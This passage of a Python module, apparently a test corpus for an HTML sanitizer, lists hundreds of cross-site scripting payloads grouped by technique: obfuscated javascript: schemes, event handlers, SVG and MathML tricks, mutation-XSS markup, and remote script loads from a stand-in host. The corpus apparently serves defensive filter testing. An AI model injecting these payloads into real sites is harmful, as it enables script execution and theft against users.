"""Hostile markup, by what it tries. Written for this project from what browsers are known to do; `alert(1)` is the prize.

Each class is one idea in many dresses. What is known of the ideas: the HTML Standard's parser (§13.2), the URL Standard
(§4.4, what is passed over in an address), the classes of the OWASP cheat sheet, and published work on mutation XSS.
"""

from itertools import product

PAYLOAD = "<img src=x onerror=alert(1)>"

SCRIPTS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=http://e.org/x.js></SCRIPT>", "<script/xss src=x></script>", "<script >alert(1)</script >",
    "<<script>alert(1)//<</script>", "<script\x0c>alert(1)</script>", "<script\n>alert(1)</script\n>", "<script\t/>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<scr\x00ipt>alert(1)</script>", "<script\x00>alert(1)</script>", "<\x00script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</p></div></body></html><script>alert(1)</script>", "<script><!--<script></script>alert(1)",
    "<script>alert(1)", "<script src=//e.org/x", "<script src=data:text/javascript,alert(1)></script>", "<script type=module>alert(1)</script>",
    "<script type='text/vbscript'>MsgBox 1</script>", "<script async src='data:,alert(1)'></script>", "<script>/*</script><script>*/alert(1)</script>",
    "<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>", "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>alert(1)</html:script>",
    "<ſcript>alert(1)</ſcript>", "<script\u200b>alert(1)</script>", "<ｓｃｒｉｐｔ>alert(1)</ｓｃｒｉｐｔ>", "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u2028<script>alert(1)</script>\u2029", "<script>alert`1`</script>", "<script>\u2028alert(1)</script>",
    "<a><script>alert(1)</script></a>", "<p><b><script>alert(1)</script>", "<pre><script>alert(1)</script></pre>", "<script></script><script>alert(1)</script>",
)  # fmt: skip

STYLES = (
    "<style>@import 'javascript:alert(1)';</style>", "<style>*{background:url(javascript:alert(1))}</style>", "<style>li{list-style-image:url('javascript:alert(1)')}</style><ul><li>x</ul>",
    "<link rel=stylesheet href=javascript:alert(1)>", "<link rel=import href='data:text/html,<script>alert(1)</script>'>", "<link rel=preload as=script href=//e.org/x onload=alert(1)>",
    "<p style='background:url(javascript:alert(1))'>x", "<p style='width:expression(alert(1))'>x", "<p style='width:ex/**/pression(alert(1))'>x", "<p style='xss:exp\\72 ession(alert(1))'>x",
    "<p style='-moz-binding:url(http://e.org/x.xml#y)'>x", "<p style='behavior:url(#default#time2)'>x", "<p style='text-decoration:url(javascript:alert(1))'>x",
    "<p style='font-family:\"x;}</style><script>alert(1)</script>\"'>x", "<p style=\"text-decoration: underline;background:url('&#106;avascript:alert(1)')\">x",
    "<span style='animation:x' onanimationstart=alert(1)>x</span>", "<style>@keyframes x{}</style><b style='animation-name:x' onanimationend=alert(1)>x</b>",
    "<font style='font-weight:bold' color='expression(alert(1))'>x</font>", "<b style='font-weight:normal\" onclick=\"alert(1)'>x</b>", "<p style='font-style:italic\"><img src=x onerror=alert(1)>'>x",
    "<style/onload=alert(1)>", "<style><!--</style><script>alert(1)</script>-->", "<style>/*</style><img src=x onerror=alert(1)>*/", "<style></style\x0c><img src=x onerror=alert(1)>",
)  # fmt: skip

DOCUMENTS = (
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>", "<meta charset=utf-7>+ADw-script+AD4-alert(1)",
    "<meta http-equiv='Content-Type' content='text/html; charset=iso-2022-jp'>\x1b$B<img src=x onerror=alert(1)>", "<meta http-equiv=Link content='<javascript:alert(1)>; rel=stylesheet'>",
    "<base href='javascript:alert(1)//'>", "<base href='javascript:/a/-alert(1)///////'><a href=../x>x</a>", "<base target='<script>alert(1)</script>'><a href=x>x</a>",
    "<body onload=alert(1)>", "<body background='javascript:alert(1)'>", "<body onhashchange=alert(1)><a href=#x>x</a>", "<html onclick=alert(1)>", "<head onclick=alert(1)>", "<frameset onload=alert(1)>",
    "<frameset><frame src='javascript:alert(1)'></frameset>", "<!DOCTYPE html><html><body onpageshow=alert(1)>", "<title>x</title onclick=alert(1)><b onclick=alert(1)>x</b>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;", "<?xml-stylesheet href='javascript:alert(1)'?>", "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<xml id=x><a><b><script>alert(1)</script>;</b></a></xml>", "<xml src='javascript:alert(1)' id=x></xml>", "<x:x xmlns:x='urn:x' onclick=alert(1)>x</x:x>",
)  # fmt: skip

HANDLERS = (
    "<img src=x onerror=alert(1)>", "<img src=x onerror\n=\nalert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x:x onerror=alert(1)//", "<img\x0csrc=x\x0conerror=alert(1)>", "<img src=x\x0bonerror=alert(1)>",
    "<img src=x onerror=alert(1) ", "<img src='x'onerror=alert(1)>", "<img src=x onerror='alert(1)", "<img onerror=alert(1) src>", "<img src=`x`onerror=alert(1)>", "<img src=x oneonerrorrror=alert(1)>",
    "<img src=x on\x00error=alert(1)>", "<img src=x \x00onerror=alert(1)>", '<img src=x "onerror=alert(1)>', "<img src=x '''onerror=alert(1)>", "<img src=x =onerror=alert(1)>", "<img src=x a=b=onerror=alert(1)>",
    "<img src=x ONERROR=&#97;lert(1)>", '<img src=x onerror="&quot;;alert(1)//">', "<img src=x onerror&equals;alert(1)>", "<img src=x o\u0131error=alert(1)>", "<img src='x' ON\u0131oad=alert(1)>",
    "<p onclick=alert(1)>x", "<a onmouseover=alert(1)>x</a>", "<details open ontoggle=alert(1)>x</details>", "<video onloadstart=alert(1) src=x></video>", "<audio src=x onerror=alert(1)></audio>",
    "<video><source onerror=alert(1)></video>", "<audio><track default src=x onerror=alert(1)></audio>", "<picture onclick=alert(1)><img src=x onload=alert(1) onerror=alert(1)></picture>",
    "<p id=x class=y onfocus=alert(1) tabindex=1 autofocus>x", "<xss onclick=alert(1)>x</xss>", "<xss id=x tabindex=1 onfocus=alert(1)></xss>", "<xss contenteditable onbeforeinput=alert(1)>x",
    "<b/onclick=alert(1)>x", "<b//onclick=alert(1)//>x", "<b onclick=alert(1)<i>x", "<b <script>alert(1)</script>onclick=alert(1)>x", "<p popover id=x onbeforetoggle=alert(1)>x</p>", "<dialog open onclose=alert(1)>x",
    '<img """><script>alert(1)</script>">', '<img alt="><script>alert(1)</script>"">', "<img title='x' alt='`><img src=x onerror=alert(1)>'>", '<p title="</p><img src=x onerror=alert(1)>">x',
    "<img src=x alt='x\"onerror=\"alert(1)'>", "<img src='x&quot; onerror=&quot;alert(1)'>", "<a title='&quot; onclick=&quot;alert(1)'>x</a>", "<a title='&#34;onclick=&#34;alert(1)'>x</a>", "<a href='x&#34;onclick=alert(1)//'>x</a>",
    "<td colspan='1\" onclick=\"alert(1)'>x", "<abbr title='--><img src=x onerror=alert(1)>'>x</abbr>", "<abbr title='<![CDATA[<img src=x onerror=alert(1)>]]>'>x</abbr>", "<q cite='x\"><img src=x onerror=alert(1)>'>x</q>",
    "<img width='1\" onerror=\"alert(1)' src=x>", "<time datetime=\"'><img src=x onerror=alert(1)>\">x</time>", "<ol start=\"'/onclick=alert(1)/'\"><li>x</ol>", '<img src="x` `<script>alert(1)</script>"` `>',
)  # fmt: skip

#: How a scheme is written so that a filter does not see it and a browser does, or once did.
SCHEMES = (
    "javascript:alert(1)", "jAvAsCrIpT:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:alert(1)", "java&#9;script:alert(1)", "java&#x0A;script:alert(1)", "java&#13;script:alert(1)",
    "java&NewLine;script&colon;alert(1)", "java&Tab;script:alert(1)", "&#14; javascript:alert(1)", "&#x1;&#x1F;javascript:alert(1)", "\x01javascript:alert(1)", "\x1f \x10javascript:alert(1)", "\x00javascript:alert(1)", "java\x00script:alert(1)",
    "&#106;&#97;vascript:alert(1)", "&#x6A&#x61vascript:alert(1)", "&#0000106avascript:alert(1)", "&#x000006a;avascript:alert(1)", "javascript&#58;alert(1)", "javascript&#0000058alert(1)", "javascript&colon;alert(1)", "javascript&#x3a;alert(1)",
    " javascript:alert(1)", "\n\n\tjavascript:alert(1)", " \u00a0javascript:alert(1)", "\ufeffjavascript:alert(1)", "\u200bjavascript:alert(1)", "\u2028javascript:alert(1)", "\u3000javascript:alert(1)", "\x85javascript:alert(1)",
    "javascript\t:alert(1)", "javascript :alert(1)", "javascript://e.org/%0aalert(1)", "javascript://%0d%0aalert(1)", "javascript:\\u0061lert(1)", "javascript:/*--></title></style>--><svg/onload=alert(1)//*/", "javascript:'<script>alert(1)</script>'",
    "ｊａｖａｓｃｒｉｐｔ:alert(1)", "javaſcript:alert(1)", "javascript：alert(1)", "jav\u0131script:alert(1)", "%6Aavascript:alert(1)", "javascript%3Aalert(1)", "\\javascript:alert(1)", "/javascript:alert(1)", "//javascript:alert(1)", "javascript:alert(1)//http://e.org",
    "http:javascript:alert(1)", "https:\\javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "data:image/svg+xml;base64,PHN2Zy8+", "d&#x61;ta:text/html,x", "data&colon;,x", "data:application/xhtml+xml,<x/>", "vbscript:msgbox(1)", "VbScRiPt:msgbox(1)", "vb\nscript:msgbox(1)", "livescript:alert(1)", "mocha:alert(1)", "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)", "feed:data:text/html,x", "pcast:javascript:alert(1)", "blob:https://e.org/x", "filesystem:https://e.org/temporary/x", "jar:https://e.org!/x", "file:///etc/passwd", "about:blank", "chrome://settings", "ms-its:x", "mhtml:http://e.org/x!y",
    "res://x/y", "wyciwyg://0/x", "intent://x#Intent;scheme=javascript;end", "ws://e.org/", "x-javascript:alert(1)", "javascript&amp;colon;alert(1)", "javas&#99ript:alert(1)", "javascript:alert(1)&#9;", "&Tab;javascript&Tab;:alert(1)", "java\u00adscript:alert(1)",
)  # fmt: skip
#: Where an address stands.
ADDRESSED = (
    '<a href="{}">x</a>', "<img src='{}'>", '<img src=x srcset="{} 2x">', "<img src=x srcset='a.png 1x, {} 2x'>", "<img src=x srcset='a.png 1x,{} 2x'>", '<picture><source srcset="{}"><img src=x></picture>', "<video poster='{}' src=x></video>",
    "<video src='{}'></video>", '<audio><source src="{}"></audio>', "<track src='{}'>", "<blockquote cite='{}'>x</blockquote>", "<q cite='{}'>x</q>", "<ins cite='{}'>x</ins>", "<del cite='{}'>x</del>", "<table background='{}'><tr><td background='{}'>x</table>",
    "<a href=x ping='{}'>x</a>", "<image src='{}'>", "<isindex action='{}'>", "<img dynsrc='{}' lowsrc='{}' longdesc='{}' usemap='{}'>", "<a xlink:href='{}'>x</a>", "<map name=m><area href='{}'></map>", "<input type=image src='{}'>", "<bgsound src='{}'>",
    "<iframe src='{}'></iframe>", "<object data='{}'></object>", "<object><param name=src value='{}'></object>", "<embed src='{}'>", "<applet codebase='{}'></applet>", "<form action='{}'><button formaction='{}'>x</button></form>", "<link rel=icon href='{}'>",
    "<svg><a href='{}'><text>x</text></a></svg>", "<svg><image href='{}'/></svg>", "<svg><use xlink:href='{}'/></svg>", "<math href='{}'>x</math>", "<noscript><a href='{}'>x</a></noscript>", "<a data-href='{}' href='{}'>x</a>", "<img data-src='{}' src=x>",
    "<a hreflang=x href='{}' target=_blank rel=opener>x</a>", "<a href='x' href='{}'>x</a>", "<a href='{}' href='x'>x</a>", "<frame src='{}'>", "<script src='{}'></script>", "<a href={}>x</a>",
)  # fmt: skip
#: Every scheme in a link, and every place with the plainest one and with some that hide.
ADDRESSES = (
    *(ADDRESSED[0].replace("{}", scheme.replace('"', "&quot;")) for scheme in SCHEMES),
    *(place.replace("{}", scheme) for place, scheme in product(ADDRESSED[1:], ("javascript:alert(1)", "java&#10;script:alert(1)", "&#1;data:text/html,x"))),
    "<a href='https://e.org/<a href='javascript:alert(1)'>x</a>", "<a href='a<b href=' title='javascript:alert(1)'>x</a>", "<a href=//e.org/javascript:alert(1) href='javascript:alert(1)'>x</a>", "<a href='x\" href=\"javascript:alert(1)'>x</a>",
    "<img srcset='javascript:alert(1)'>", "<img src=x srcset=',,javascript:alert(1)'>", "<img src=x srcset='a.png 1x,\njavascript:alert(1) 2x'>", "<img src=x srcset='&#44;data:x,y 2x'>", "<img src=x sizes='javascript:alert(1)'>", "<source media='javascript:alert(1)' srcset=x>",
)  # fmt: skip

EMBEDDED = (
    "<iframe src='javascript:alert(1)'></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;'></iframe>", "<iframe onload=alert(1)></iframe>", "<iframe/src=//e.org onload=alert(1) <p>",
    "<object data='javascript:alert(1)'></object>", "<object data='data:text/html,<script>alert(1)</script>'></object>", "<object type='text/x-scriptlet' data=//e.org></object>", "<object onerror=alert(1) data=x>x</object>", "<embed src='javascript:alert(1)'>", "<embed src='data:image/svg+xml,x' type='image/svg+xml' AllowScriptAccess=always>",
    "<applet code=x onerror=alert(1)></applet>", "<form action='javascript:alert(1)'><button>x</button></form>", "<button formaction='javascript:alert(1)'>x</button>", "<form id=x></form><button form=x formaction='javascript:alert(1)'>x</button>", "<input autofocus onfocus=alert(1)>", "<input type=image src=x onerror=alert(1)>",
    "<input type=hidden accesskey=x onclick=alert(1)>", "<input value='\"><img src=x onerror=alert(1)>'>", "<select autofocus onfocus=alert(1)><option>x</select>", "<select><option onclick=alert(1)>x", "<textarea autofocus onfocus=alert(1)>x</textarea>", "<textarea><script>alert(1)</script></textarea>",
    "<keygen autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<marquee behavior=alternate onbounce=alert(1)>x</marquee>", "<blink onclick=alert(1)>x</blink>", "<layer src=//e.org/x></layer>", "<ilayer onload=alert(1)>x</ilayer>", "<bgsound src='javascript:alert(1)'>",
    "<noembed><script>alert(1)</script></noembed>", "<noframes><script>alert(1)</script></noframes>", "<listing><script>alert(1)</script></listing>", "<xmp><script>alert(1)</script></xmp>", "<plaintext><script>alert(1)</script>", "<comment><img src=x onerror=alert(1)></comment>",
    "<template><script>alert(1)</script></template>", "<template><img src=x onerror=alert(1)></template><template>", "<template shadowrootmode=open><script>alert(1)</script></template>", "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>", "<slot onslotchange=alert(1)>x</slot>",
    "<portal src='javascript:alert(1)'>", "<fencedframe src='javascript:alert(1)'>", "<canvas onclick=alert(1)><img src=x onerror=alert(1)></canvas>", "<dialog open><form method=dialog><button onclick=alert(1)>x", "<menu><menuitem label=x onclick=alert(1)>", "<fieldset onclick=alert(1)><legend>x", "<progress onclick=alert(1)>x</progress>",
)  # fmt: skip

NAMESPACES = (
    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>", "<svg><script>alert&#40;1)</script>", "<svg><script href='data:,alert(1)'/></svg>", "<svg><script xlink:href='data:,alert(1)'></script>", "<svg><script/>alert(1)</svg>", "<svg><g onload=alert(1)></g></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<svg><a><animate attributeName=href values='javascript:alert(1)'/><text>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><animate href=#x attributeName=href to='javascript:alert(1)'/><a id=x><text>x</text></a>",
    "<svg><set attributeName=href to='javascript:alert(1)'>", "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><use href='data:image/svg+xml,x#y'/></svg>", "<svg><handler type='application/javascript'>alert(1)</handler></svg>", "<svg><image href=x onerror=alert(1)></svg>", "<svg><feImage xlink:href='javascript:alert(1)'/></svg>",
    "<svg><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>", "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>", "<svg><discard onbegin=alert(1)>", "<svg><title><script>alert(1)</script></title></svg>", "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<math href='javascript:alert(1)'>x</math>", "<math><mi href='javascript:alert(1)'>x</mi></math>", "<math><maction actiontype='statusline#http://e.org' xlink:href='javascript:alert(1)'>x</maction></math>", "<math><semantics><annotation-xml encoding='application/xhtml+xml'><img src=x onerror=alert(1)></annotation-xml></semantics></math>", "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math><script>alert(1)</script></math>", "<math><mi onclick=alert(1)>x</mi></math>", "<?import namespace=t implementation='#default#time2'><t:set attributeName=innerHTML to='&lt;img src=x onerror=alert(1)&gt;'>", "<v:vmlframe xmlns:v='urn:schemas-microsoft-com:vml' src='//e.org/x'/>", "<o:p onclick=alert(1)>x</o:p>",
)  # fmt: skip

#: Markup that becomes another when what was written is read again.
MUTATIONS = (
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", "<svg><p><style><a title='</style><img src onerror=alert(1)>'>", "<svg></br><style><a title='</style><img src onerror=alert(1)>'>", "<math><p><style><!--</style><img src onerror=alert(1)>--></style>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>", "<svg><desc><noscript><img src=x onerror=alert(1)></noscript></desc></svg>", "<svg><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style></svg>", "<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></svg>", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>", "<math><mtext><table><mglyph><style><![CDATA[</style><img title=']]&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=alert(1)&gt;'>", "<math><mtext><table><malignmark><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<mglyph><style><img src=x onerror=alert(1)></style></mglyph>", "<math><mtext><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>", "<math><mi><table><mi><style><img title='</style><img src=x onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>", "<math><annotation-xml><style><img title='</style><img src=x onerror=alert(1)>'>", "<svg><annotation-xml><foreignobject><style><!--</style><p title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>", "<svg><foreignObject><math><mi><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>", "<noscript><!--</noscript><img src=x onerror=alert(1)>--></noscript>", "<div><noscript><textarea></noscript><img src=x onerror=alert(1)></textarea>", "<p><noscript></p><img src=x onerror=alert(1)></noscript>",
    "<p>a<xmp><p title='</xmp><img src=x onerror=alert(1)>'>", "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>", "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>", "<title><p title='</title><img src=x onerror=alert(1)>'>", "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>", "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>",
    "<style><p title='</style><img src=x onerror=alert(1)>'>", "<plaintext title='</plaintext><img src=x onerror=alert(1)>'><img src=x onerror=alert(1)>", "<listing>\n\n<p title='</listing><img src=x onerror=alert(1)>'>", "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>", "<xmp>&lt;/xmp&gt;<img src=x onerror=alert(1)></xmp>", "<pre>\n\n<img title='</pre><img src=x onerror=alert(1)>'>",
    "<table><td><form><table><script>alert(1)</script>", "<a><table><a><svg><script>alert(1)</script>", "<p><b><table><td><style><!--</style><img src=x onerror=alert(1)>-->", "<table><img src=x onerror=alert(1)></table>", "<table><tr><svg><td><style><a title='</style><img src=x onerror=alert(1)>'>", "<table><caption><svg><tr><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<table>&lt;script&gt;<tr>alert(1)<td>&lt;/script&gt;</table>", "<table><select><tr><script>alert(1)</script>", "<table><colgroup><img src=x onerror=alert(1)><col></table>", "<table><a href=x><tr><td><a href='javascript:alert(1)'>x</a></table>", "<b><p><table><b><img src=x onerror=alert(1)></table>", "<table><math><mtext><tr><style><img title='</style><img src=x onerror=alert(1)>'>",
    "<select><svg><style><a title='</style><img src=x onerror=alert(1)>'>", "<select><option><style></option></select><img src=x onerror=alert(1)></style>", "<select><template><img src=x onerror=alert(1)></template></select>", "<select><keygen><img src=x onerror=alert(1)></select>", "<select><script>alert(1)</script></select>", "<select><noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<optgroup><option><img src=x onerror=alert(1)>",
    "<form><div></form><form><svg><style><a title='</style><img src=x onerror=alert(1)>'>", "<form id=a><form id=b><input name=parentNode></form><img src=x onerror=alert(1)>", "<form><input name=attributes><input name=removeChild></form>", "<img name=body><img name=getElementById><a id=alert><a id=x name=y href='javascript:alert(1)'>x</a>", "<form name=document></form><p id=cookie>x",
    "<h1><h2><table><h3><a><a><svg><script>alert(1)</script>", "<a href=x><b><a href=y><i><table><a href='javascript:alert(1)'>x", "<nobr><table><nobr><img src=x onerror=alert(1)>", "<button><button><svg><script>alert(1)</script>", "<li><ul><li><table><li><img src=x onerror=alert(1)>", "<dd><dt><div><dd><svg><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<ruby><rt><rtc><rb><svg><style><a title='</style><img src=x onerror=alert(1)>'>", "<marquee><p><marquee></p><img src=x onerror=alert(1)>", "<object><p></object><a><object><a><img src=x onerror=alert(1)>", "<frameset><template><img src=x onerror=alert(1)>", "<image><svg><image><style><a title='</style><img src=x onerror=alert(1)>'>", "<body><svg><body onload=alert(1)>",
    "<em>" * 40 + "<table><svg><style><a title='</style><img src=x onerror=alert(1)>'>", "<div>" * 520 + "<svg><style><a title='</style><img src=x onerror=alert(1)>'>", "<b>" * 600 + "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>", "<font>" * 12 + "<p>" * 12 + "<img src=x onerror=alert(1)>",
    "</p></br></sarcasm><img src=x onerror=alert(1)>", "</><img src=x onerror=alert(1)>", "</ x><img src=x onerror=alert(1)>", "<p/><svg/><style><a title='</style><img src=x onerror=alert(1)>'>", "<br/></br><svg></br><style><a title='</style><img src=x onerror=alert(1)>'>",
)  # fmt: skip

COMMENTS = (
    "<!--><script>alert(1)</script>-->", "<!---><script>alert(1)</script>-->", "<!----><script>alert(1)</script>", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<!--[if gte mso 9]><img src=x onerror=alert(1)><![endif]-->", "<![if !mso]><img src=x onerror=alert(1)><![endif]>", "<!--[if !mso]><!--><img src=x onerror=alert(1)><!--<![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)>-->", "<!--<!--><img src=x onerror=alert(1)>-->", "<!--<p title='--><img src=x onerror=alert(1)>'>", "<p title='<!--'><img src=x onerror=alert(1)>-->", "<!--x--\n><img src=x onerror=alert(1)>-->", "<!-- `><img src=x onerror=alert(1)> -->", "<!--\x00--><img src=x onerror=alert(1)>", "<!--&#45;&#45;><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>", "<![CDATA[>]]><img src=x onerror=alert(1)>", "<svg><![CDATA[<script>alert(1)</script>]]></svg>", "<math><![CDATA[</math><img src=x onerror=alert(1)>]]>", "<?php><img src=x onerror=alert(1)>?>", "<?x ><script>alert(1)</script>?>", "<!x><img src=x onerror=alert(1)>", '<!DOCTYPE "><img src=x onerror=alert(1)>', "<%<script>alert(1)</script>%>", "<&><img src=x onerror=alert(1)>",
    "<!--<script>--><img src=x onerror=alert(1)>", "<style><!--</style><img src=x onerror=alert(1)>--></style>", "<xmp><!--</xmp><img src=x onerror=alert(1)>--></xmp>", "<!--[if<img src=x onerror=alert(1)//]> -->", "<comment><!--</comment><img src=x onerror=alert(1)>-->",
)  # fmt: skip

#: Text that must stay text, however often it is read.
ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "&#60;img src=x onerror=alert(1)&#62;", "&#x3c;img src=x onerror=alert(1)>", "&LT;img src=x onerror=alert(1)&GT;", "&lt<img src=x onerror=alert(1)>", "&ltimg src=x onerror=alert(1)&gt", "&nvlt;img src=x onerror=alert(1)&nvgt;", "&#000000000000000000060;img src=x onerror=alert(1)>",
    "&#x0;<img src=x onerror=alert(1)>", "&#xD800;<b onclick=alert(1)>x", "&#1114112;<b onclick=alert(1)>x", "&#128;&#159;<b onclick=alert(1)>x", "<b>&notit;&notin;&ampamp;&copy</b onclick=alert(1)>", "<a href='&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)'>x</a>", "<pre>&lt;img src=x onerror=alert(1)&gt;</pre>", "<code>&lt;/code&gt;&lt;script&gt;alert(1)&lt;/script&gt;</code>",
    "<p title='&amp;quot;&gt;&lt;img src=x onerror=alert(1)&gt;'>x", "<abbr title='&lt;/abbr&gt;&lt;img src=x onerror=alert(1)&gt;'>x</abbr>", "<img alt='&lt;!--' src=x><img alt='--&gt;&lt;img src=x onerror=alert(1)&gt;' src=y>", "<img alt='&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;' src=x>", "<img alt='&lt;/textarea&gt;&lt;/title&gt;&lt;/style&gt;&lt;/xmp&gt;&lt;img src=x onerror=alert(1)&gt;' src=x>",
    "<img alt='&lt;![CDATA[' src=x><img alt=']]&gt;&lt;img src=x onerror=alert(1)&gt;' src=x>", "<a title='`&#96;&grave;onclick=alert(1)'>x</a>", "<a title='\u2028&#x2028;\u2029'>x</a>", "\u2028\u2029\u0085\u000b\u000c&#8232;<b onclick=alert(1)>x", "\ufeff<script>alert(1)</script>", "\ufffe\uffff\U0001ffff<img src=x onerror=alert(1)>", "\u202e>)1(trela=rorreno x=crs gmi<", "<p>\x1b$B\x1b(B&lt;img src=x onerror=alert(1)&gt;",
    "<img alt='\u00a0&nbsp;\u200b' src='&nbsp;javascript:alert(1)'>", "x<\u00a0script>alert(1)</script>", "<\u3000img src=x onerror=alert(1)>", "<img\u00a0src=x\u00a0onerror=alert(1)>", "<img\u2028src=x\u2028onerror=alert(1)>", "ÀÁ¼scriptÀ¾alert(1)", "\xbcscript\xbealert(1)\xbc/script\xbe", "%3Cscript%3Ealert(1)%3C/script%3E", "\\x3cscript\\x3ealert(1)", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<b>{{7*7}}</b>",
)  # fmt: skip

#: What a rule cuts, moves or rewrites, so that halves might become a whole.
CUTS = (
    "<a href='java<button></button>script:alert(1)'>x</a>", "<scr<button>x</button>ipt>alert(1)</script>", "&lt;script<em></em>&gt;alert(1)&lt;/script&gt;", "&lt;<b></b>script&gt;alert(1)&lt;<i></i>/script&gt;", "<<b></b>script>alert(1)</script>", "<div><<div></div>script>alert(1)</div>", "&<b></b>lt;img src=x onerror=alert(1)&<b></b>gt;", "&am<em></em>p;lt;script&gt;",
    "<span class=skype_pnh_mark>x</span><img src=x onerror=alert(1)>", "<script class=skype_pnh_container>alert(1)</script>", "<span class='skype_pnh_container <script>'>x</span>", "<div style='text-decoration: underline'><script>alert(1)</script>x<img src=x onerror=alert(1)></div>", "<p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><![if !supportLists]><img src=x onerror=alert(1)><![endif]>x",
    "<img data-src='javascript:alert(1)' src='data:image/gif;base64,R0lGODlhAQABAAAAACw='>", "<img data-lazy-src='x\" onerror=\"alert(1)' src=lazy.png class=lazy>", "<noscript><img src=x onerror=alert(1)></noscript><img data-src=x>", "<img class=lazyload data-srcset='javascript:alert(1) 1x, x 2x' src='data:,x'>", "<amp-img src='javascript:alert(1)' onerror=alert(1)></amp-img>",
    "<img class=wp-smiley alt='<img src=x onerror=alert(1)>' src=https://s.w.org/images/core/emoji/2/72x72/1f600.png>", "<img class=emoji alt='&lt;script&gt;alert(1)&lt;/script&gt;' src=x>", "<img class=emoji alt='\"><svg onload=alert(1)>' src=https://s.w.org/images/core/emoji/15/svg/1f642.svg>", "<img class=wp-smiley alt='&amp;lt;script&amp;gt;' src=icon_smile.gif>",
    "<iframe src='https://www.youtube.com/embed/\"><img src=x onerror=alert(1)>'></iframe>", "<iframe src='https://www.youtube.com/embed/x' title='\"><img src=x onerror=alert(1)>'></iframe>", "<iframe src='https://player.vimeo.com/video/1&quot;onclick=alert(1)' title='<script>alert(1)</script>'></iframe>", "<iframe src='javascript:alert(1)//youtube.com/embed/x'></iframe>", "<iframe src='https://youtube.com@e.org/embed/x' srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://www.youtube.com/v/x'><param name=movie value='javascript:alert(1)'><embed src='javascript:alert(1)'></object>", "<embed src='https://www.youtube.com/v/x?\"><script>alert(1)</script>'>", "<a href='https://www.google.com/url?q=javascript:alert(1)'>x</a>", "<a href='https://l.facebook.com/l.php?u=javascript%3Aalert(1)'>x</a>", "<a href='https://www.google.com/url?q=%6aavascript%3aalert(1)'>x</a>",
    "<a href='https://www.google.com/url?q=https%3A%2F%2Fe.org%2F%22%20onclick%3D%22alert(1)'>x</a>", "<a href='https://www.google.com/url?q=https://e.org/%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E'>x</a>", "<a href='https://www.google.com/url?q=java%0ascript:alert(1)'>x</a>", "<a href='https://href.li/?javascript:alert(1)'>x</a>", "<a href='https://eur01.safelinks.protection.outlook.com/?url=data%3Atext%2Fhtml%2Cx'>x</a>",
